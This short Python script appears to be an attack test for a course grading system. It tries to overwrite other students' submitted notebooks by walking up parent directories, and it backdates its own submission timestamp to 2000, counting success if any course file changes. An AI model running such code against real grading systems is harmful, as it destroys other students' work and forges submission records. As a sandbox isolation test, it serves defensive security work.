"""Overwrites what other students handed in, and the time of its own.

Succeeds if a file in the course has changed.
"""

import os

for root in (COURSE, "..", "../..", "../../.."):
    for student in (VICTIM, "aaron", "zoe"):
        folder = os.path.join(root, "submitted", student, TOPIC)
        try:
            with open(os.path.join(folder, TOPIC + ".ipynb"), "w") as file:
                file.write(MARK)
        except OSError as error:
            print(error)
try:
    with open(os.path.join(COURSE, "submitted", ATTACK, TOPIC, "timestamp.txt"), "w") as file:
        file.write("2000-01-01 00:00:00 UTC")
except OSError as error:
    print(error)
